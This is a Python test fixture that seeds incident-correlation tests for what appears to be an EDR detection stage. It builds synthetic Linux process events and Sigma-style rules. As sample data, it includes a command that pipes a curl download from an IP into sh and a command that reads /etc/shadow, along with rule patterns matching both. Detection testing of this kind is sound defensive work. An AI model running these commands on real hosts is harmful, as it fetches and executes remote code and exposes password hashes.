"""Seed data for the incident tests: alerts raised by the real detection stage from events shaped
as the Linux sensor emits them (session, ancestry), stored as the collector stores them.

On host ``s-inc`` (web-2): login session 11 runs ``curl … | sh`` and then reads /etc/shadow (one
incident, two rules, two techniques); session 22 runs ``ls -la /root`` (a second incident); an
event with neither session nor ancestry (a third, on its own).
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

from aurora.collector.detect import DetectionStage
from aurora.collector.store.base import HostRecord
from aurora.config.detection import DetectionConfig

SENSOR = "s-inc"
RULES = {
    "shadow": ("7e1d0000-0000-4000-8000-00000000a001", "critical", "/etc/shadow",
               ["attack.credential_access", "attack.t1003.008"]),
    "curl": ("7e1d0000-0000-4000-8000-00000000a002", "high", "| sh",
             ["attack.command_and_control", "attack.t1105"]),
    "ls": ("7e1d0000-0000-4000-8000-00000000a003", "low", "ls -la",
           ["attack.discovery", "attack.t1083"]),
}  # fmt: skip


def _rule(name: str) -> str:
    rule_id, level, needle, tags = RULES[name]
    tag_lines = "".join(f"  - {t}\n" for t in tags)
    return (
        f"title: Test {name}\nid: {rule_id}\nstatus: test\nlevel: {level}\ntags:\n{tag_lines}"
        "logsource: {product: linux, category: process_creation}\n"
        f"detection:\n  sel:\n    CommandLine|contains: '{needle}'\n  condition: sel\n"
    )


def _entity(pid: int, name: str) -> dict[str, Any]:
    return {"pid": pid, "uid": f"web2-{pid}", "name": name, "path": f"/usr/bin/{name}"}


def _exec(pid: int, cmd: str, t: int, session: str | None, shell_pid: int) -> dict[str, Any]:
    proc: dict[str, Any] = {
        "pid": pid,
        "uid": f"web2-{pid}",
        "name": cmd.split()[0],
        "cmd_line": cmd,
        "file": {"path": f"/usr/bin/{cmd.split()[0]}", "name": cmd.split()[0]},
        "parent_process": {"pid": shell_pid},
    }
    if session is not None:
        proc["session"] = {"uid": session}
        proc["ancestry"] = [_entity(shell_pid, "bash"), _entity(650, "sshd"), _entity(1, "systemd")]
    return {
        "class_uid": 1007,
        "category_uid": 1,
        "activity_id": 1,
        "type_uid": 100701,
        "time": t,
        "metadata": {"version": "1.8.0", "product": {"name": "Aurora EDR"}},
        "device": {"hostname": "web-2", "os": {"name": "Linux", "type_id": 200}},
        "process": proc,
    }


def seed_incidents(store: Any, rule_dir: Path) -> dict[str, Any]:
    """Raise and store the alerts; returns the ids of the alerts by rule name and session."""
    now = int(time.time() * 1000)
    store.register_host(
        HostRecord(sensor_id=SENSOR, hostname="web-2", os_name="Debian", os_version="12",
                   enrolled_ms=now, last_seen_ms=now)
    )  # fmt: skip
    rule_dir.mkdir(parents=True, exist_ok=True)
    for name in RULES:
        (rule_dir / f"{name}.yml").write_text(_rule(name))
    stage = DetectionStage.from_config(DetectionConfig(rule_dirs=[rule_dir], enabled=True))
    steps = [
        ("curl", _exec(801, "curl http://203.0.113.9/x | sh", now - 60_000, "11", 700)),
        ("shadow", _exec(802, "cat /etc/shadow", now - 30_000, "11", 700)),
        ("ls", _exec(901, "ls -la /root", now - 20_000, "22", 900)),
        ("ls", _exec(950, "ls -la /srv", now - 10_000, None, 940)),
    ]
    ids: dict[str, list[int]] = {}
    for name, event in steps:
        alerts = stage.evaluate(SENSOR, [(event, (RULES[name][0],))])
        stored = store.add_alerts(alerts)
        stage.committed(store, None)
        ids.setdefault(name, []).extend(stored)
    return ids
